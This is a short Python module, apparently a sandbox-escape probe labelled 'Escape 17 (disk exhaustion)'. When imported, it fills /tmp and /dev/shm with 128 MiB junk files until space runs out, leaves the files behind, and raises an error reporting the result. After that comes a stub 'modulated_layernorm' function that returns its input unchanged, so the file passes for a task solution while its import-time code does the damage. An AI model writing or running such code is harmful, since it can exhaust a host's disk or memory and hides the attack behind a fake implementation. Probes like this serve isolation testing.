"""Escape 17 (disk exhaustion): fill every place it can write, its /tmp and /dev/shm, until the space
runs out, keep the files, and fail the import naming what stopped it. Where those are the machine's
own folders it fills the machine's disk (or memory, for /dev/shm) and its files outlive it."""
import os

CHUNK = b"\0" * (4 << 20)
FILE_BYTES = 128 << 20  # below the file-size limit: the folder's space, not one file's size, runs out


def _fill(folder: str) -> str:
    written, index = 0, 0
    try:
        while True:
            with open(os.path.join(folder, f"escape-tmpfs-full-{index}.bin"), "wb") as sink:
                for _ in range(FILE_BYTES // len(CHUNK)):
                    written += sink.write(CHUNK)
                    sink.flush()
            index += 1
    except OSError as exc:
        return f"{folder}: {written >> 20} MiB, then {exc.strerror}"


raise RuntimeError(" | ".join(_fill(folder) for folder in ("/tmp", "/dev/shm")))


def modulated_layernorm(x, scale, shift):
    return x
